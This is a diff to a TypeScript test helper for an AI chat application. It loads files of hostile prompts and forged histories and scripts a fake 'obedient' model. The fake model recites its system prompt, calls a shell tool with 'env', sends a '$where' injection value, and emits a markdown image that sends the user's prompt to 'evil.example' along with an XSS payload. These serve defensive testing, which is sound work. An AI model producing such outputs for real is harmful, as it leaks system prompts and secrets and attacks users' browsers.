@@ -4,32 +4,32 @@ import type { Script } from './test-model.ts'
 
 const folder = join(import.meta.dirname, '../hostile')
 
-/** Two hundred things that people try on assistants. */
+/** Two hundred prompts that attack assistants. */
 export const hostilePrompts = (): string[] => readFileSync(join(folder, 'prompts.txt'), 'utf8').trimEnd().split('\n')
 
-/** What no browser of ours sends as the history of a conversation. */
+/** Histories of a conversation that our browser code never sends. */
 export const forgedHistories = (): unknown[] =>
   JSON.parse(readFileSync(join(folder, 'histories.json'), 'utf8')) as unknown[]
 
 /** Where pictures of a hostile reply come from. */
 export const EVIL = 'evil.example'
 
-/** A model that does whatever it is told: recites its instructions, embeds what it was given, asks tools with nonsense. */
-export const obeying =
-  (told: (system: string) => void): Script =>
+/** A script of a model that obeys everything: recites its instructions, embeds what it was sent, calls tools with invalid input. */
+export const obedientScript =
+  (onSystemPrompt: (system: string) => void): Script =>
   ({ messages, tools }, nth) => {
     const system = messages[0]?.content ?? ''
-    told(system)
-    const asked = messages.findLast(({ role }) => role === 'user')?.content ?? ''
-    const answered = messages.at(-1)?.role === 'tool'
-    if (tools && !answered && nth % 3 === 0)
+    onSystemPrompt(system)
+    const prompt = messages.findLast(({ role }) => role === 'user')?.content ?? ''
+    const hasToolResult = messages.at(-1)?.role === 'tool'
+    if (tools && !hasToolResult && nth % 3 === 0)
       return [
-        { call: 'object', with: JSON.stringify({ name: asked.slice(0, 200), $where: '1' }) },
-        { call: 'run_shell', with: '{"cmd":"env"}' },
+        { tool: 'object', input: JSON.stringify({ name: prompt.slice(0, 200), $where: '1' }) },
+        { tool: 'run_shell', input: '{"cmd":"env"}' },
       ]
     return nth % 2 === 0
-      ? [{ say: `${asked} ![x](https://${EVIL}/?${encodeURIComponent(asked)}) <img src=x onerror=alert(1)>` }]
-      : [{ say: 'Of course: ' }, ...(system.match(/[^]{1,37}/g) ?? []).map(part => ({ say: part }))]
+      ? [{ text: `${prompt} ![x](https://${EVIL}/?${encodeURIComponent(prompt)}) <img src=x onerror=alert(1)>` }]
+      : [{ text: 'Of course: ' }, ...(system.match(/[^]{1,37}/g) ?? []).map(part => ({ text: part }))]
   }
 
 const letters = (text: string) => text.toLowerCase().replace(/[^\p{L}\p{N}]+/gu, '')
